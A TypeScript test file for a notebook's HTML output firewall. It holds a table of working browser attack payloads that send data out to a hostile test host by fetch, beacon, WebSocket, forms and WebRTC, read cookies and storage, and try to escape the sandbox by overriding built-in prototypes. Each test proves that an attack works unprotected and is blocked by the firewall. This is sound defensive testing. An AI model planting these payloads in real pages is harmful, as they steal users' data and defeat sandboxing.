import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { safeBundle } from '../../kernel/output/firewall/bundle.ts';
import { createRedactor } from '../../kernel/output/firewall/redact.ts';
import { HostilePage } from '../support/hostile-page.ts';

const secret = 'gsk_secret-value';

/** What a reader's notebook is given of a helper's HTML. */
const shown = (html: string): string =>
  String(safeBundle({ 'text/html': html }, {}, createRedactor([secret])).data['text/html']);

/** The same HTML in a plain frame of the page's origin, to prove that the attack is one. */
const unprotected = (html: string): string =>
  `<iframe srcdoc="${html.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`;

const rtc = (udp: number): string =>
  `p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${udp}'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))`;
/** Within a script within an attribute. */
const nested = (code: string): string =>
  '<iframe srcdoc=\\"<script>' + code.replaceAll("'", "\\'") + '<\\/script>\\"></iframe>';

type Attack = (to: string, udp: number) => string;
const attacks: Readonly<Record<string, Attack>> = {
  'reaches the page': () => 'parent.attacked=1',
  'reads cookies': () => "document.cookie; parent.postMessage('stolen','*')",
  'uses local storage': () => "localStorage.x=1; parent.postMessage('stolen','*')",
  'uses a database': () =>
    "indexedDB.open('x').onsuccess=()=>parent.postMessage('stolen','*'); indexedDB.open('x')",
  fetches: (to) => `fetch('${to}/a')`,
  'sends by XMLHttpRequest': (to) => `x=new XMLHttpRequest;x.open('GET','${to}/a');x.send()`,
  'opens a web socket': (to) => `new WebSocket('${to.replace('http', 'ws')}/a')`,
  'sends a beacon': (to) => `navigator.sendBeacon('${to}/a','x')`,
  'loads an image': (to) => `new Image().src='${to}/a'`,
  'loads a script': (to) =>
    `s=document.createElement('script');s.src='${to}/a';document.documentElement.append(s)`,
  'imports a module': (to) => `import('${to}/a')`,
  'loads a style sheet': (to) =>
    `s=document.createElement('link');s.rel='stylesheet';s.href='${to}/a';document.documentElement.append(s)`,
  'loads a font': (to) => `new FontFace('x','url(${to}/a)').load()`,
  'navigates itself': (to) => `location.href='${to}/a'`,
  'navigates itself by a data address': (to) =>
    `location='data:text/html,<script>location="${to}/a"<\\/script>';new Image().src='${to}/a'`,
  'navigates the page': (to) => `top.location='${to}/a'`,
  'opens a popup': (to) => `window.open('${to}/a')`,
  'follows a link': (to) =>
    `a=document.createElement('a');a.href='${to}/a';a.target='_top';document.documentElement.append(a);a.click()`,
  'sends a form': (to) =>
    `document.body.innerHTML='<form action="${to}/a"><input name=a></form>';document.forms[0].submit()`,
  'opens a frame': (to) => `document.body.innerHTML='<i'+'frame src="${to}/a"></i'+'frame>'`,
  'embeds an object': (to) => `document.body.innerHTML='<obj'+'ect data="${to}/a"></obj'+'ect>'`,
  'plays a video': (to) => `document.body.innerHTML='<video src="${to}/a" autoplay></video>'`,
  refreshes: (to) => `document.head.innerHTML='<meta http-equiv="refresh" content="0;url=${to}/a">'`,
  'starts a worker': (to) => `new Worker(URL.createObjectURL(new Blob(["fetch('${to}/a')"])))`,
  'asks for a dialog': () => 'setTimeout(() => alert(1))',
  'calls another browser': (_to, udp) => rtc(udp),
  'calls another browser from a frame of its own': (_to, udp) =>
    `document.body.insertAdjacentHTML('beforeend', "${nested(rtc(udp)).replaceAll('iframe', 'if"+"rame')}")`,
  'calls another browser from a frame that a parser made': (_to, udp) =>
    `d=new DOMParser().parseFromString("${nested(rtc(udp)).replaceAll('iframe', 'if"+"rame')}",'text/html');document.body.append(d.body.firstChild)`,
  'calls another browser from a frame made past what it replaced': (_to, udp) =>
    `String.prototype.indexOf=()=>-1;RegExp.prototype.exec=()=>null;f=document.createElement({toString:()=>'if'+'rame'});` +
    `f.setAttribute('src','javascript:0');document.body.append(f);p=f.contentWindow.RTCPeerConnection;${rtc(udp).replace('new RTC', 'new (p||RTC').replace('Connection(', 'Connection)(')}`,
};

describe('HTML that needs its script', { timeout: 60_000 }, () => {
  let page: HostilePage;
  beforeAll(async () => {
    page = await HostilePage.open();
  }, 60_000);
  afterAll(() => page.close());

  const html = (attack: Attack): string =>
    `<p>shown</p><script>parent.parent.postMessage('ran','*');${attack(page.evil, page.udp)}</script>`;

  it.each(Object.entries(attacks))('%s: in a plain frame it does, in ours it does not', async (_, attack) => {
    const control = await page.show(unprotected(html(attack)), false, 'harm');
    expect([...control.requests, ...control.signs]).not.toEqual([]);
    const harm = await page.show(shown(html(attack)), false, 'ran');
    expect(harm).toEqual({ requests: [], signs: [], ran: true });
  });

  it('draws', async () => {
    const code = "document.body.innerHTML='<b>drawn</b>'; eval('document.body.append(1)')";
    expect(await page.drawn(shown(`<script>${code}</script>`), 'b')).toBe(1);
  });

  it('has its secrets taken out', () => {
    expect(shown(`<script>key = "${secret}"</script>`)).not.toContain(secret);
  });

  it.each([
    ['a script from elsewhere', '<b>x</b><script src="https://evil.test/x.js"></script>'],
    ['a frame of its own', '<b>x</b><script>1</script><iframe srcdoc="<b>y</b>"></iframe>'],
    ['an object of its own', '<b>x</b><script>1</script><OBJECT data="x"></OBJECT>'],
  ])('is shown without what acts where it has %s', (_, given) => {
    const { data, notices } = safeBundle({ 'text/html': given }, {}, createRedactor([]));
    expect(data['text/html']).toBe('<b>x</b>');
    expect(notices.join()).toContain('Scripts from elsewhere and embedded pages');
  });

  it('is refused beyond 8 MB', () => {
    const { data } = safeBundle(
      { 'text/html': `<script>${' '.repeat(8_000_000)}</script>` },
      {},
      createRedactor([]),
    );
    expect(data).not.toHaveProperty('text/html');
  });
});
